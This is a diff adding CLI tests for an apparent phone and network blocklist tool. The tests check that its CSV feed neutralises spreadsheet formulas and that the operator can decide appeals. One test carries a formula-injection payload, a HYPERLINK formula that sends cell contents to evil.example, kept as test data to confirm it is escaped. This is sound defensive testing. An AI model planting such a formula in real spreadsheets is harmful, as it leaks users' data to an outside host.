@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
@@ -75,3 +77,26 @@ def test_networks_commands(run, tmp_path: Path) -> None:  # type: ignore[no-unty
     blocked = json.loads(run("networks", "block", network["id"], "--json").stdout)
     assert blocked["added"] == 3
     assert run("networks", "show", "N-404").exit_code == 2
+
+
+def test_the_csv_feed_neutralises_formulas(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    reason = '=HYPERLINK("https://evil.example/?"&A1,"details")'
+    assert run("blocklist", "add", "phone", "+8613700137000", "--reason", reason).exit_code == 0
+    out_file = tmp_path / "feed.csv"
+    assert run("blocklist", "feed", "--format", "csv", "--out", str(out_file)).exit_code == 0
+    [row] = list(csv.DictReader(out_file.open(encoding="utf-8", newline="")))
+    assert row["reason"] == "'" + reason
+    [printed] = list(csv.DictReader(io.StringIO(run("blocklist", "feed").stdout)))
+    assert printed["reason"] == "'" + reason
+
+
+def test_the_operator_decides_any_appeal(run) -> None:  # type: ignore[no-untyped-def]
+    """The CLI is the instance's operator: it decides appeals on any agency's entries."""
+    run("agency", "add", "CN-MPS", "--country", "CN", "--name", "MPS")
+    assert run("blocklist", "add", "phone", "+8613700137000", "--reason", "r",
+               "--agency", "CN-MPS", "--marking", "TLP:RED").exit_code == 0
+    assert run("blocklist", "appeal", "phone", "+8613700137000", "--contact", "owner",
+               "--statement", "mine").exit_code == 0
+    listed = json.loads(run("blocklist", "appeals", "--json").stdout)
+    assert [(a["id"], a["contact"]) for a in listed] == [(1, "owner")]
+    assert "rejected" in run("blocklist", "decide", "1", "--reject", "--reason", "in 9").stdout
